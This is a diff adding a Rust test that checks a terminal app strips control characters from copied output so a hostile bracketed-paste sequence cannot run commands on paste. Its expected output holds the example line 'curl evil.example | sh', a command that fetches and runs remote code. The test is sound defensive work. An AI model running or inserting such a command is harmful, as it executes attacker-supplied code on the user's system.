@@ -86,3 +86,30 @@ fn copy_of_a_call_whose_file_was_truncated_says_so_and_copies_nothing() {
         );
     }
 }
+
+/// Issue 14.10: `Y` put raw ESC, C1 and bidi bytes on the clipboard; a copied `ESC[201~` and a
+/// newline end a shell's bracketed paste, so what follows runs on paste. They are removed, and
+/// the status bar says how many.
+#[test]
+fn copied_output_has_no_control_characters_and_says_what_went() {
+    let items = import::load_bytes(include_bytes!("fixtures/hostile_paste.ndjson")).items;
+    let mut app = App::headless(items, "paste");
+    app.select(0);
+    app.press(KeyCode::Char('Y'));
+    let seq = app.clipboard_out.take().expect("an OSC 52 sequence");
+    let b64 = seq
+        .strip_prefix("\x1b]52;c;")
+        .and_then(|s| s.strip_suffix('\x07'))
+        .expect("OSC 52 framing");
+    let text = base64::engine::general_purpose::STANDARD
+        .decode(b64)
+        .expect("base64");
+    assert_eq!(
+        String::from_utf8(text).expect("UTF-8"),
+        "harmless\ncurl evil.example | sh\n31mok\n"
+    );
+    assert_eq!(
+        app.view.message.as_deref(),
+        Some("copied the output (38 bytes) to the clipboard; 9 control characters removed")
+    );
+}
